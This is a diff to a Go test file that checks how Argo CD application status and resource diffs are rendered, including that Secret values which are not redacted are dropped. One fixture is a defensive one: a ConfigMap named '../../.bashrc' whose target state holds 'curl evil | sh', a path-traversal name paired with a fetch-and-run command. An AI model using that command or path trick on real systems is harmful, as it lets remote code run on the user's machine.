@@ -41,9 +41,49 @@ func TestRender(t *testing.T) {
 			{Ref: argocdcache.Ref{Group: "apps", Version: "v1", Kind: "ReplicaSet", Namespace: "web", Name: "web-5d9c"},
 				Health: &argocdcache.Health{Status: "Healthy"}, ParentRefs: []argocdcache.Ref{{Group: "apps", Kind: "Deployment", Namespace: "web", Name: "web"}}},
 		},
+		// The Synced Service is not listed; the OutOfSync Deployment, whose states the
+		// entry does not carry, is listed without them.
 		wantManaged: []argocdcache.ResourceDiff{
-			{Kind: "Service", Namespace: "web", Name: "web", TargetState: "null", LiveState: "null", NormalizedLiveState: "null", PredictedLiveState: "null"},
 			{Group: "apps", Kind: "Deployment", Namespace: "web", Name: "web", TargetState: "null", LiveState: "null", NormalizedLiveState: "null", PredictedLiveState: "null", Modified: true},
+		},
+	}, {
+		name: "the states of Argo CD's diff for the OutOfSync resources, none for a Synced one, none that is not redacted, none of a name that is no object's",
+		entry: statusv1alpha1.AppStatus{
+			Resources: []statusv1alpha1.ResourceStatus{
+				{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "synced", Status: "Synced"},
+				{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "changed", Status: "OutOfSync"},
+				{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "new", Status: "OutOfSync"},
+				{Version: "v1", Kind: "Secret", Namespace: "web", Name: "masked", Status: "OutOfSync"},
+				{Version: "v1", Kind: "Secret", Namespace: "web", Name: "plain", Status: "OutOfSync"},
+				{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "../../.bashrc", Status: "OutOfSync"},
+			},
+			Diffs: []statusv1alpha1.ResourceDiff{
+				{Kind: "ConfigMap", Namespace: "web", Name: "synced", LiveState: configMap("synced", "a"), TargetState: configMap("synced", "a"), PredictedLiveState: configMap("synced", "a")},
+				{Kind: "ConfigMap", Namespace: "web", Name: "changed", LiveState: configMap("changed", "a"), TargetState: configMap("changed", "b"), PredictedLiveState: configMap("changed", "b")},
+				{Kind: "ConfigMap", Namespace: "web", Name: "new", TargetState: configMap("new", "b")},
+				{Kind: "Secret", Namespace: "web", Name: "masked", LiveState: secret("masked", "++++++++"), TargetState: secret("masked", "++++++++++++"), PredictedLiveState: secret("masked", "++++++++++++")},
+				{Kind: "Secret", Namespace: "web", Name: "plain", LiveState: secret("plain", "c2VjcmV0"), TargetState: secret("plain", "++++++++")},
+				{Kind: "ConfigMap", Namespace: "web", Name: "../../.bashrc", TargetState: configMap("x", "curl evil | sh")},
+			},
+		},
+		wantNodes: []argocdcache.Node{
+			{Ref: argocdcache.Ref{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "../../.bashrc"}},
+			{Ref: argocdcache.Ref{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "changed"}},
+			{Ref: argocdcache.Ref{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "new"}},
+			{Ref: argocdcache.Ref{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "synced"}},
+			{Ref: argocdcache.Ref{Version: "v1", Kind: "Secret", Namespace: "web", Name: "masked"}},
+			{Ref: argocdcache.Ref{Version: "v1", Kind: "Secret", Namespace: "web", Name: "plain"}},
+		},
+		// A name that is no object's, which `argocd app diff` would make a path of, gets
+		// no states.
+		wantManaged: []argocdcache.ResourceDiff{
+			{Kind: "ConfigMap", Namespace: "web", Name: "../../.bashrc", TargetState: "null", LiveState: "null", NormalizedLiveState: "null", PredictedLiveState: "null", Modified: true},
+			{Kind: "ConfigMap", Namespace: "web", Name: "changed", LiveState: "null", NormalizedLiveState: configMap("changed", "a"),
+				TargetState: configMap("changed", "b"), PredictedLiveState: configMap("changed", "b"), Modified: true},
+			{Kind: "ConfigMap", Namespace: "web", Name: "new", LiveState: "null", NormalizedLiveState: "null", TargetState: configMap("new", "b"), PredictedLiveState: "null", Modified: true},
+			{Kind: "Secret", Namespace: "web", Name: "masked", LiveState: "null", NormalizedLiveState: secret("masked", "++++++++"),
+				TargetState: secret("masked", "++++++++++++"), PredictedLiveState: secret("masked", "++++++++++++"), Modified: true},
+			{Kind: "Secret", Namespace: "web", Name: "plain", TargetState: "null", LiveState: "null", NormalizedLiveState: "null", PredictedLiveState: "null", Modified: true},
 		},
 	}, {
 		name: "a node that repeats a managed resource, and a resource without health",
@@ -51,10 +91,8 @@ func TestRender(t *testing.T) {
 			Resources: []statusv1alpha1.ResourceStatus{{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "cm", Status: "Synced", Health: &statusv1alpha1.Health{}}},
 			Nodes:     []statusv1alpha1.ResourceNode{{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "cm", Health: healthy}},
 		},
-		wantNodes: []argocdcache.Node{{Ref: argocdcache.Ref{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "cm"}}},
-		wantManaged: []argocdcache.ResourceDiff{
-			{Kind: "ConfigMap", Namespace: "web", Name: "cm", TargetState: "null", LiveState: "null", NormalizedLiveState: "null", PredictedLiveState: "null"},
-		},
+		wantNodes:   []argocdcache.Node{{Ref: argocdcache.Ref{Version: "v1", Kind: "ConfigMap", Namespace: "web", Name: "cm"}}},
+		wantManaged: []argocdcache.ResourceDiff{},
 	}, {
 		name:        "an app with no resources yet",
 		wantNodes:   []argocdcache.Node{},
@@ -134,7 +172,7 @@ func TestNodeIdentityOf(t *testing.T) {
 // digest below together, so that a new manager writes every tree again rather than
 // trusting the entries an earlier one wrote (sourceKey).
 func TestRenderIsPinned(t *testing.T) {
-	const pinned = "2 c3d27dfc c7eec195"
+	const pinned = "3 5e6124bf 1d141b6b"
 	healthy := &statusv1alpha1.Health{Status: "Healthy"}
 	entry := statusv1alpha1.AppStatus{
 		Namespace: "argocd", Name: "web", Sync: statusv1alpha1.SyncStatus{Status: "OutOfSync", Revision: "c0ffee"},
@@ -151,6 +189,10 @@ func TestRenderIsPinned(t *testing.T) {
 			{Group: "apps", Version: "v1", Kind: "ReplicaSet", Namespace: "web", Name: "web-5d9c", Health: healthy,
 				ParentRefs: []statusv1alpha1.ResourceRef{{Group: "apps", Kind: "Deployment", Namespace: "web", Name: "web"}}},
 		},
+		Diffs: []statusv1alpha1.ResourceDiff{{Group: "apps", Kind: "Deployment", Namespace: "web", Name: "web",
+			LiveState:          `{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"web","namespace":"web"},"spec":{"replicas":2}}`,
+			TargetState:        `{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"web","namespace":"web"},"spec":{"replicas":1}}`,
+			PredictedLiveState: `{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":"web","namespace":"web"},"spec":{"replicas":1}}`}},
 		TreeSource: statusv1alpha1.TreeSourceArgoCDCache,
 	}
 	var got string
@@ -164,4 +206,12 @@ func TestRenderIsPinned(t *testing.T) {
 	if got = renderVersion + got; got != pinned {
 		t.Errorf("Render's output changed (%s, pinned %s): change renderVersion, and pin the new output", got, pinned)
 	}
+}
+
+func configMap(name, value string) string {
+	return `{"apiVersion":"v1","data":{"k":"` + value + `"},"kind":"ConfigMap","metadata":{"name":"` + name + `","namespace":"web"}}`
+}
+
+func secret(name, value string) string {
+	return `{"apiVersion":"v1","data":{"password":"` + value + `"},"kind":"Secret","metadata":{"name":"` + name + `","namespace":"web"}}`
 }
